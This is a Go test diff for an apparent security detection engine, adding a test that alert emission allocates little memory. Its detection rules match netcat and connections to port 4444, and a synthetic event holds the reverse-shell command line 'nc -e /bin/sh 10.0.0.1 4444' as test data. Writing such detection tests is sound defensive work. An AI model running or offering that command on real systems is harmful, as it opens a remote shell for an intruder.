@@ -6,6 +6,7 @@ import (
 
 	"github.com/kestrel-sec/kestrel/rule"
 	"github.com/kestrel-sec/kestrel/schema"
+	"github.com/kestrel-sec/kestrel/sink"
 )
 
 // TestHandleNoAllocs proves the per-event paths allocate nothing: events
@@ -88,4 +89,45 @@ until [process where event.action == "logout"]`),
 	}); n != 0 {
 		t.Fatalf("Route: %v allocs per 4 events", n)
 	}
+}
+
+// countAlerts counts alerts and keeps nothing, so it allocates nothing.
+type countAlerts struct{ n int }
+
+func (c *countAlerts) Emit(*sink.Alert) error { c.n++; return nil }
+
+// TestAlertsAllocAmortized: raising an alert allocates nothing but, now
+// and then, a new slab chunk (alertslab.go): at most one allocation per
+// 16 alerts, event and sequence rules alike, field strings included.
+func TestAlertsAllocAmortized(t *testing.T) {
+	if raceEnabled {
+		t.Skip("the race detector allocates")
+	}
+	rules := []*rule.Package{
+		pkg(t, "single", `process where process.name == "nc"`),
+		pkg(t, "seq", `sequence by process.entity_id [process where process.name == "nc"] [network where network.dest_port == 4444]`),
+	}
+	out := &countAlerts{}
+	d, err := New(Config{Output: out, Rules: rules})
+	if err != nil {
+		t.Fatal(err)
+	}
+	exec := ev{1, "process_exec", time.Second, 1, []any{"process.entity_id", "p1", "process.name", "nc",
+		"process.executable", "/usr/bin/nc", "process.command_line", "nc -e /bin/sh 10.0.0.1 4444"}}.build(t)
+	conn := ev{2, "network_connect", time.Second, 1, []any{"process.entity_id", "p1", "network.dest_port", uint64(4444)}}.build(t)
+	var batch []*schema.Event
+	for range 128 {
+		batch = append(batch, &exec, &conn)
+	}
+	d.Handle(0, batch) // warm: the join key exists
+	before := out.n
+	allocs := testing.AllocsPerRun(50, func() { d.Handle(0, batch) })
+	perBatch := (out.n - before) / 51
+	if perBatch != 256 {
+		t.Fatalf("%d alerts per batch, want 256 (128 event, 128 sequence)", perBatch)
+	}
+	if allocs > float64(perBatch)/16 {
+		t.Fatalf("%v allocs per %d alerts", allocs, perBatch)
+	}
+	t.Logf("%v allocs per %d alerts", allocs, perBatch)
 }
